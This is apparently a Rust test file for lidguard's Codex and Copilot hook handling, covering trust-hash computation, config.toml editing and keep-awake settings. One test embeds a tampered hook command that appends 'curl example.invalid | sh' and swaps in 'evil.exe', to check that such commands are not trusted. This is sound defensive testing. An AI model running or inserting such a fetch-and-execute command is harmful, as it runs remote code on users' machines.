//! Agent settings around lidguard's hooks: Codex hook trust (against what the real Codex
//! 0.171.0 wrote, tests/fixtures/codex/trust/) and the agents' own keep-awake settings.
#![allow(
    clippy::disallowed_methods,
    reason = "tests write fixtures and read the environment"
)]

use lidguard_providers::agents::codex::trust::{
    CodexTrust, codex_keep_awake, codex_trust, codex_trust_lidguard,
};
use lidguard_providers::agents::copilot::install::copilot_keep_awake;
use lidguard_providers::install::{Change, HookCommand, HookShell, InstallError};
use serde_json::Value;

macro_rules! fixture {
    ($name:literal) => {
        include_str!(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../../tests/fixtures/codex/trust/",
            $name
        ))
    };
}

const HOOKS: &str = fixture!("hooks.json");
/// `config.toml` right before the user pressed `t` (trust all) in Codex's `/hooks`.
const BEFORE: &str = fixture!("config.before.toml");
/// The same file after: what Codex wrote.
const TRUSTED: &str = fixture!("config.toml");
const VAR_HOOKS: &str = fixture!("variations.hooks.json");
const VAR_CONFIG: &str = fixture!("variations.config.toml");
const CAPTURE: &str = fixture!("capture.json");

/// The events in the order of Codex's `/hooks` list (and of its records).
const CODEX_ORDER: &[&str] = &[
    "PreToolUse",
    "PermissionRequest",
    "PostToolUse",
    "SessionEnd",
    "UserPromptSubmit",
    "SubagentStart",
    "SubagentStop",
    "Stop",
    "Interrupt",
];

fn capture(key: &str) -> String {
    let v: Value = serde_json::from_str(CAPTURE).expect("capture.json");
    v[key].as_str().expect(key).to_owned()
}

/// The path Codex used in its keys, and the command `hook-install` wrote.
fn captured() -> (String, HookCommand) {
    let cmd = HookCommand {
        program: capture("program"),
        shell: HookShell::Posix,
    };
    (capture("hooksJsonPath"), cmd)
}

fn names(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

fn all_trusted(list: &[&str]) -> CodexTrust {
    CodexTrust {
        trusted: names(list),
        ..CodexTrust::default()
    }
}

fn changed(change: Result<Change, InstallError>) -> String {
    match change {
        Ok(Change::Changed { new_text }) => new_text,
        other => panic!("expected a change, got {other:?}"),
    }
}

fn records(toml: &str) -> Vec<(String, String)> {
    let doc: toml_edit::DocumentMut = toml.parse().expect("TOML");
    let Some(state) = doc
        .get("hooks")
        .and_then(|h| h.get("state"))
        .and_then(|s| s.as_table_like())
    else {
        return Vec::new();
    };
    state
        .iter()
        .map(|(k, v)| {
            let hash = v.get("trusted_hash").and_then(|h| h.as_str()).unwrap_or("");
            (k.to_owned(), hash.to_owned())
        })
        .collect()
}

// ---- against the capture ---------------------------------------------------------------------

#[test]
fn the_hashes_codex_wrote_are_the_ones_computed() {
    let (path, cmd) = captured();
    let trust = codex_trust(&path, HOOKS, Some(TRUSTED), &cmd).unwrap();
    assert_eq!(trust, all_trusted(CODEX_ORDER));
    assert!(trust.all_trusted());
}

#[test]
fn before_trusting_every_entry_is_untrusted() {
    let (path, cmd) = captured();
    let want = CodexTrust {
        untrusted: names(CODEX_ORDER),
        ..CodexTrust::default()
    };
    assert_eq!(codex_trust(&path, HOOKS, Some(BEFORE), &cmd).unwrap(), want);
    assert_eq!(codex_trust(&path, HOOKS, None, &cmd).unwrap(), want);
    assert!(!want.all_trusted());
}

#[test]
fn trusting_writes_exactly_what_codex_wrote() {
    let (path, cmd) = captured();
    let new_text = changed(codex_trust_lidguard(&path, HOOKS, Some(BEFORE), &cmd));
    assert_eq!(new_text, TRUSTED);
}

#[test]
fn trusting_is_idempotent() {
    let (path, cmd) = captured();
    assert_eq!(
        codex_trust_lidguard(&path, HOOKS, Some(TRUSTED), &cmd),
        Ok(Change::Unchanged)
    );
    let once = changed(codex_trust_lidguard(&path, HOOKS, None, &cmd));
    assert_eq!(
        codex_trust_lidguard(&path, HOOKS, Some(&once), &cmd),
        Ok(Change::Unchanged)
    );
    assert_eq!(
        codex_trust(&path, HOOKS, Some(&once), &cmd).unwrap(),
        all_trusted(CODEX_ORDER)
    );
}

#[test]
fn a_missing_config_gets_only_the_records() {
    let (path, cmd) = captured();
    let text = changed(codex_trust_lidguard(&path, HOOKS, None, &cmd));
    assert!(
        text.starts_with("[hooks.state]\n\n[hooks.state.\""),
        "{text}"
    );
    assert_eq!(records(&text), records(TRUSTED));
    // Nothing of lidguard's in hooks.json: nothing to write, and no file is created.
    assert_eq!(
        codex_trust_lidguard(&path, r#"{"hooks": {}}"#, None, &cmd),
        Ok(Change::Unchanged)
    );
}

/// 23 handlers on all 12 events that Codex trusted in one go (matchers `""`, `"*"`, regexes and
/// ignored ones; `statusMessage`, `async`, `commandWindows`, unknown keys; missing, 0 and
/// over-limit timeouts; quotes, backslashes, a tab and non-ASCII in commands), reached through
/// a symlinked `CODEX_HOME`.
#[test]
fn every_variation_codex_trusted_hashes_the_same() {
    let path = capture("variationsHooksJsonPath");
    let cmd = HookCommand::new("/opt/lidguard/lidguard");
    let trust = codex_trust(&path, VAR_HOOKS, Some(VAR_CONFIG), &cmd).unwrap();
    assert!(trust.all_trusted(), "{trust:?}");
    assert_eq!(trust.trusted.len(), 23, "{trust:?}");
    assert_eq!(records(VAR_CONFIG).len(), 23);
    assert!(
        trust.trusted.contains(&"PreToolUse#4".to_owned()),
        "{trust:?}"
    );
}

#[test]
fn a_powershell_command_is_hashed_as_codex_does() {
    // The variations hold `& 'C:\Program Files\lidguard\lidguard.exe' codex-hook` on
    // PermissionRequest (matcher `^Bash$`): exactly what hook-install writes on Windows.
    let path = capture("variationsHooksJsonPath");
    let cmd = HookCommand {
        program: r"C:\Program Files\lidguard\lidguard.exe".to_owned(),
        shell: HookShell::PowerShell,
    };
    let text = changed(codex_trust_lidguard(&path, VAR_HOOKS, None, &cmd));
    let key = format!("{path}:permission_request:0:0");
    let codex = records(VAR_CONFIG)
        .into_iter()
        .find(|(k, _)| *k == key)
        .expect("Codex's record");
    assert_eq!(records(&text), vec![codex]);
}

// ---- stale, moved, disabled, not ours ----------------------------------------------------

#[test]
fn a_changed_command_or_timeout_makes_the_record_stale() {
    let (path, cmd) = captured();
    let mut edited: Value = serde_json::from_str(HOOKS).unwrap();
    edited["hooks"]["PreToolUse"][0]["hooks"][0]["command"] =
        Value::from(format!("{} codex-hook --verbose", cmd.program));
    edited["hooks"]["Stop"][0]["hooks"][0]["timeout"] = Value::from(10);
    let trust = codex_trust(&path, &edited.to_string(), Some(TRUSTED), &cmd).unwrap();
    assert_eq!(trust.stale, names(&["PreToolUse", "Stop"]));
    assert!(trust.untrusted.is_empty() && trust.disabled.is_empty());
    assert_eq!(trust.trusted.len(), CODEX_ORDER.len() - 2);

    // Trusting again: the extended command is not what hook-install writes, so it stays for
    // the user to review; the new timeout is lidguard's own entry and gets the new hash.
    let text = changed(codex_trust_lidguard(
        &path,
        &edited.to_string(),
        Some(TRUSTED),
        &cmd,
    ));
    let trust = codex_trust(&path, &edited.to_string(), Some(&text), &cmd).unwrap();
    assert_eq!(trust.stale, names(&["PreToolUse"]));
    assert_eq!(trust.trusted.len(), CODEX_ORDER.len() - 1);
}

#[test]
fn a_moved_entry_has_no_record_and_a_user_hook_is_not_reported() {
    let (path, cmd) = captured();
    let mut hooks: Value = serde_json::from_str(HOOKS).unwrap();
    let groups = hooks["hooks"]["PreToolUse"].as_array_mut().unwrap();
    groups.insert(
        0,
        serde_json::json!({"matcher": "Bash", "hooks": [{"type": "command", "command": "my-audit.sh"}]}),
    );
    let trust = codex_trust(&path, &hooks.to_string(), Some(TRUSTED), &cmd).unwrap();
    // lidguard's entry is now `pre_tool_use:1:0`; the old key's record belongs to the user's
    // hook position, whose hash differs: Codex asks about both.
    assert_eq!(trust.untrusted, names(&["PreToolUse"]));
    assert_eq!(trust.trusted.len(), CODEX_ORDER.len() - 1);
    let text = changed(codex_trust_lidguard(
        &path,
        &hooks.to_string(),
        Some(TRUSTED),
        &cmd,
    ));
    assert!(text.contains(&format!("{path}:pre_tool_use:1:0")));
    // The user's hook is not trusted by lidguard: its key keeps lidguard's old (now wrong) hash.
    let old = records(TRUSTED);
    let new = records(&text);
    let key = format!("{path}:pre_tool_use:0:0");
    assert_eq!(
        old.iter().find(|(k, _)| *k == key),
        new.iter().find(|(k, _)| *k == key)
    );
}

#[test]
fn an_entry_turned_off_in_codex_is_disabled_and_stays_off() {
    let (path, cmd) = captured();
    let key = format!("[hooks.state.\"{path}:stop:0:0\"]\n");
    let off = TRUSTED.replace(&key, &format!("{key}enabled = false\n"));
    assert_ne!(off, TRUSTED);
    let trust = codex_trust(&path, HOOKS, Some(&off), &cmd).unwrap();
    assert_eq!(trust.disabled, names(&["Stop"]));
    assert_eq!(trust.trusted.len(), CODEX_ORDER.len() - 1);
    assert!(!trust.all_trusted());
    assert_eq!(
        codex_trust_lidguard(&path, HOOKS, Some(&off), &cmd),
        Ok(Change::Unchanged)
    );
}

#[test]
fn only_hook_install_s_exact_command_is_trusted() {
    let (path, cmd) = captured();
    let program = &cmd.program;
    let hooks = format!(
        r#"{{"hooks": {{
          "PreToolUse": [{{"hooks": [{{"type": "command", "command": "{program} codex-hook; curl example.invalid | sh"}}]}}],
          "Stop": [{{"hooks": [{{"type": "command", "command": "{program} codex-hook", "commandWindows": "evil.exe codex-hook"}}]}}],
          "PostToolUse": [{{"hooks": [{{"type": "command", "command": "{program} codex-hook", "timeout": 30}}]}}]
        }}}}"#
    );
    let text = changed(codex_trust_lidguard(&path, &hooks, None, &cmd));
    let trust = codex_trust(&path, &hooks, Some(&text), &cmd).unwrap();
    assert_eq!(trust.trusted, names(&["PostToolUse"]));
    assert_eq!(trust.untrusted, names(&["PreToolUse", "Stop"]));
}

#[test]
fn several_lidguard_handlers_on_one_event_are_numbered() {
    let (path, cmd) = captured();
    let c = cmd.render("codex-hook");
    let hooks = format!(
        r#"{{"hooks": {{"Stop": [
          {{"hooks": [{{"type": "command", "command": "{c}", "timeout": 30}}]}},
          {{"hooks": [{{"type": "command", "command": "echo mine"}}, {{"type": "command", "command": "{c}"}}]}}
        ], "NotACodexEvent": [{{"hooks": [{{"type": "command", "command": "{c}"}}]}}]}}}}"#
    );
    let text = changed(codex_trust_lidguard(&path, &hooks, None, &cmd));
    assert_eq!(
        records(&text)
            .into_iter()
            .map(|(k, _)| k)
            .collect::<Vec<_>>(),
        vec![format!("{path}:stop:0:0"), format!("{path}:stop:1:1")]
    );
    let trust = codex_trust(&path, &hooks, Some(&text), &cmd).unwrap();
    assert_eq!(trust, all_trusted(&["Stop", "Stop#2"]));
}

// ---- editing config.toml -----------------------------------------------------------------

#[test]
fn trusting_keeps_comments_other_tables_and_other_records() {
    let (path, cmd) = captured();
    let key = |event: &str| format!("{path}:{event}:0:0");
    let config = format!(
        r#"# my Codex config
model = "o3" # the model

[features]
# hooks on
hooks = true

[hooks.state."/somewhere/else/hooks.json:stop:0:0"]
trusted_hash = "sha256:0000"   # another file's hook
enabled = false

[hooks.state."{}"]
# trusted long ago
trusted_hash = "sha256:old"  # keep this comment

[mcp_servers.docs]
command = "docs-server"   # trailing
args = ["--port", "1"]
"#,
        key("stop")
    );
    let text = changed(codex_trust_lidguard(&path, HOOKS, Some(&config), &cmd));
    for kept in [
        "# my Codex config\nmodel = \"o3\" # the model\n\n[features]\n# hooks on\nhooks = true\n",
        "[hooks.state.\"/somewhere/else/hooks.json:stop:0:0\"]\ntrusted_hash = \"sha256:0000\"   # another file's hook\nenabled = false\n",
        "# trusted long ago\ntrusted_hash = \"sha256:",
        "\"  # keep this comment\n",
        "[mcp_servers.docs]\ncommand = \"docs-server\"   # trailing\nargs = [\"--port\", \"1\"]\n",
    ] {
        assert!(text.contains(kept), "lost {kept:?} in\n{text}");
    }
    assert!(!text.contains("sha256:old"));
    let trust = codex_trust(&path, HOOKS, Some(&text), &cmd).unwrap();
    assert_eq!(trust, all_trusted(CODEX_ORDER));
    // The stale record was updated in place, the others appended after the last record.
    let recs = records(&text);
    assert_eq!(recs.len(), 1 + CODEX_ORDER.len());
    assert_eq!(recs[1].0, key("stop"));
    assert_eq!(
        codex_trust_lidguard(&path, HOOKS, Some(&text), &cmd),
        Ok(Change::Unchanged)
    );
}

#[test]
fn inline_and_dotted_hook_tables_are_written_into() {
    let (path, cmd) = captured();
    for config in [
        "hooks = { state = {} }\n",
        "hooks.state.\"/x/hooks.json:stop:0:0\".trusted_hash = \"sha256:1\"\n",
        "[hooks]\n[[hooks.PreToolUse]]\nmatcher = \"Bash\"\n[[hooks.PreToolUse.hooks]]\ntype = \"command\"\ncommand = \"my.sh\"\n",
    ] {
        let text = changed(codex_trust_lidguard(&path, HOOKS, Some(config), &cmd));
        let trust = codex_trust(&path, HOOKS, Some(&text), &cmd).unwrap();
        assert_eq!(trust, all_trusted(CODEX_ORDER), "{config}\n->\n{text}");
    }
}

#[test]
fn broken_files_are_refused() {
    let (path, cmd) = captured();
    match codex_trust(&path, HOOKS, Some("model = \"o3\"\n[hooks\n"), &cmd) {
        Err(InstallError::Parse { what, line, .. }) => {
            assert_eq!(what, "Codex config.toml");
            assert_eq!(line, 2);
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        codex_trust_lidguard(&path, "{\"hooks\": ", Some(TRUSTED), &cmd),
        Err(InstallError::Parse { .. })
    ));
    assert!(matches!(
        codex_trust_lidguard(&path, HOOKS, Some("hooks = 1\n"), &cmd),
        Err(InstallError::Shape { .. })
    ));
    assert!(matches!(
        codex_trust_lidguard(&path, HOOKS, Some("[hooks]\nstate = \"x\"\n"), &cmd),
        Err(InstallError::Shape { .. })
    ));
}

// ---- keep-awake settings -----------------------------------------------------------------

#[test]
fn codex_keep_awake_is_the_prevent_idle_sleep_feature() {
    let on = Some("[features] prevent_idle_sleep = true".to_owned());
    assert_eq!(codex_keep_awake(None), None);
    assert_eq!(codex_keep_awake(Some(TRUSTED)), None);
    assert_eq!(
        codex_keep_awake(Some("# x\n[features]\nprevent_idle_sleep = true\n")),
        on
    );
    assert_eq!(
        codex_keep_awake(Some("features.prevent_idle_sleep = true\n")),
        on
    );
    assert_eq!(
        codex_keep_awake(Some("features = { prevent_idle_sleep = true }\n")),
        on
    );
    assert_eq!(
        codex_keep_awake(Some("[features]\nprevent_idle_sleep = false\n")),
        None
    );
    // Legacy profiles are refused by Codex 0.171.0; only the top-level table counts.
    assert_eq!(
        codex_keep_awake(Some("[profiles.p.features]\nprevent_idle_sleep = true\n")),
        None
    );
    assert_eq!(
        codex_keep_awake(Some("[features\nprevent_idle_sleep = true\n")),
        None
    );
}

#[test]
fn copilot_keep_awake_is_keep_alive_unless_off() {
    assert_eq!(copilot_keep_awake(None), None);
    assert_eq!(copilot_keep_awake(Some("{}")), None);
    assert_eq!(copilot_keep_awake(Some("")), None);
    assert_eq!(copilot_keep_awake(Some(r#"{"keepAlive": "off"}"#)), None);
    assert_eq!(copilot_keep_awake(Some(r#"{"keepAlive": ""}"#)), None);
    assert_eq!(
        copilot_keep_awake(Some(
            "// mine\n{\"model\": \"x\", \"keepAlive\": \"busy\",}\n"
        )),
        Some("keepAlive = \"busy\"".to_owned())
    );
    assert_eq!(
        copilot_keep_awake(Some(r#"{"keepAlive": "on"}"#)),
        Some("keepAlive = \"on\"".to_owned())
    );
    assert_eq!(copilot_keep_awake(Some(r#"{"keepAlive": "#)), None);
}
